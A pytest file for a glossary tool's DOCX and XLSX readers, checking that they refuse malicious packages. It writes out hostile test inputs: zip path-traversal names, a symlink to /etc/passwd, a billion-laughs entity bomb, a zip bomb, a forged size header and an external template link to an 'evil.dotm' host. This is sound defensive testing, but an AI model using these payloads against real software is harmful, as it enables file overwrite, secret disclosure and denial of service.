"""Office documents that must not be opened, whether they are articles or glossaries."""

import io
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pytest
from afresh import afresh

from glossary.article.docx import parse as read_article
from glossary.article.docx import publish
from glossary.article.model import Part
from glossary.errors import DataError
from glossary.formats.xlsx import parse as read_glossary

Parts = list[tuple[zipfile.ZipInfo | str, bytes]]


def _article() -> Parts:
    document = docx.Document()
    document.add_paragraph("国务院发布意见。")
    file = io.BytesIO()
    document.save(file)
    return _parts(file.getvalue())


def _glossary() -> Parts:
    workbook = openpyxl.Workbook()
    workbook.active.append(["zh", "en"])
    workbook.active.append(["国务院", "State Council"])
    file = io.BytesIO()
    workbook.save(file)
    return _parts(file.getvalue())


def _parts(data: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [(name, package.read(name)) for name in package.namelist()]


def _zipped(parts: Parts) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of parts that stand twice
        for name, content in parts:
            package.writestr(name, content)
    return file.getvalue()


def _with(parts: Parts, name: str, old: bytes, new: bytes) -> Parts:
    assert any(part == name and old in content for part, content in parts)
    return [(part, content.replace(old, new, 1) if part == name else content) for part, content in parts]


def _publish(data: bytes) -> None:
    parts = [[Part(start=0, end=8, english="The State Council issued an opinion.")]]
    publish(data, file="a.docx", encoding=None, parts=parts, language="zh-Hans")


READERS: list[tuple[Callable[[], Parts], Callable[[bytes], object]]] = [
    (_article, lambda data: read_article(data, file="a.docx", encoding=None)),
    (_article, _publish),
    (_glossary, lambda data: read_glossary(data, path="g.xlsx")),
]
each_reader = pytest.mark.parametrize(("made", "read"), READERS, ids=["article", "published", "glossary"])


@each_reader
def test_a_document_as_programs_write_it_is_read(
    made: Callable[[], Parts], read: Callable[[bytes], object]
) -> None:
    read(_zipped(made()))


@each_reader
@pytest.mark.parametrize(
    "name",
    [
        "../outside.xml",
        "/etc/outside.xml",
        "word/../../outside.xml",
        "..\\outside.xml",
        "C:outside.xml",
        "..",
    ],
)
def test_a_name_that_leads_out_is_refused(
    made: Callable[[], Parts], read: Callable[[bytes], object], name: str
) -> None:
    with pytest.raises(DataError, match=r"a part is named .*, which no Office program writes: save it again"):
        read(_zipped([*made(), (name, b"<x/>")]))


@each_reader
def test_a_name_with_two_dots_in_it_leads_nowhere(
    made: Callable[[], Parts], read: Callable[[bytes], object]
) -> None:
    read(_zipped([*made(), ("word/media/a..b.png", b"x")]))


@each_reader
def test_a_link_is_refused(made: Callable[[], Parts], read: Callable[[bytes], object]) -> None:
    link = zipfile.ZipInfo("word/media/picture.png")
    link.external_attr = 0o120777 << 16
    with pytest.raises(DataError, match=r"the part word/media/picture\.png is a link"):
        read(_zipped([*made(), (link, b"/etc/passwd")]))


@each_reader
def test_a_part_that_stands_twice_is_refused(
    made: Callable[[], Parts], read: Callable[[bytes], object]
) -> None:
    parts = made()
    with pytest.raises(DataError, match="stands twice"):
        read(_zipped([*parts, parts[-1]]))


@each_reader
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_entities_are_refused_in_any_part(
    made: Callable[[], Parts], read: Callable[[bytes], object], encoding: str
) -> None:
    laughs = "".join(f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};&l{n - 1};">' for n in range(1, 40))
    bomb = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x>&l39;</x>'.encode(encoding)
    with pytest.raises(DataError, match=r"customXml/item\.xml declares XML entities"):
        read(_zipped([*made(), ("customXml/item.xml", bomb)]))


@each_reader
def test_entities_far_from_the_start_of_a_part_are_refused(
    made: Callable[[], Parts], read: Callable[[bytes], object]
) -> None:
    comment = b"<!--" + b" " * ((1 << 20) - 8) + b"-->"
    with pytest.raises(DataError, match="declares XML entities"):
        read(_zipped([*made(), ("custom.xml", comment + b'<!DOCTYPE x [<!ENTITY a "b">]><x/>')]))


@each_reader
def test_what_unpacks_to_far_more_than_it_is_is_refused(
    made: Callable[[], Parts], read: Callable[[bytes], object]
) -> None:
    with pytest.raises(DataError, match="unpacks to 64 MB, too much for a"):
        read(_zipped([*made(), ("word/media/zeros.bin", bytes(64 << 20))]))


@each_reader
def test_a_part_that_says_to_be_smaller_than_it_is_is_damaged(
    made: Callable[[], Parts], read: Callable[[bytes], object]
) -> None:
    data = _zipped([*made(), ("word/zeros.xml", b"<" + bytes(1 << 20))])
    size = ((1 << 20) + 1).to_bytes(4, "little")
    assert data.count(size) == 2
    with pytest.raises(DataError, match="damaged"):
        read(data.replace(size, (100).to_bytes(4, "little")))


def test_pictures_and_pages_in_an_article_may_have_document_types() -> None:
    picture = b'<!DOCTYPE svg [<!ENTITY ns "http://ns.example.org/">]><svg/>'
    page = b"<!DOCTYPE html><html><body><p>x</p></body></html>"
    data = _zipped([*_article(), ("word/media/image1.svg", picture), ("word/afchunk.htm", page)])
    assert [block.text for block in read_article(data, file="a.docx", encoding=None).blocks] == [
        "国务院发布意见。"
    ]


def test_what_an_article_refers_to_elsewhere_is_not_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the network was asked")

    monkeypatch.setattr("socket.socket.connect", refuse)
    template = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    notes = template.replace(b"rId99", b"rId98").replace(b"attachedTemplate", b"footnotes")
    parts = _with(_article(), "word/_rels/document.xml.rels", b"</Relationships>", template)
    parts = _with(parts, "word/_rels/document.xml.rels", b"</Relationships>", notes)
    data = _zipped(parts)
    assert [block.text for block in read_article(data, file="a.docx", encoding=None).blocks] == [
        "国务院发布意见。"
    ]
    _publish(data)


def test_a_dangerous_article_is_one_line_and_nothing_is_written(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    glossary = afresh(capsys, monkeypatch)
    Path("a.docx").write_bytes(_zipped(_article()))
    assert glossary("annotate", "a.docx").status == 0
    Path("a.docx").write_bytes(_zipped([*_article(), ("../outside.xml", b"<x/>")]))
    before = Path("a.po").read_bytes()
    for arguments in (
        ("annotate", "a.docx"),
        ("publish", "a.docx", "a.po", "-o", "b.docx"),
        ("mine", "a.docx"),
    ):
        outcome = glossary(*arguments)
        assert (outcome.status, outcome.out, outcome.err.count("\n")) == (2, "", 1)
        assert outcome.err.startswith("a.docx: a part is named '../outside.xml'")
    assert Path("a.po").read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.docx", "a.po"]
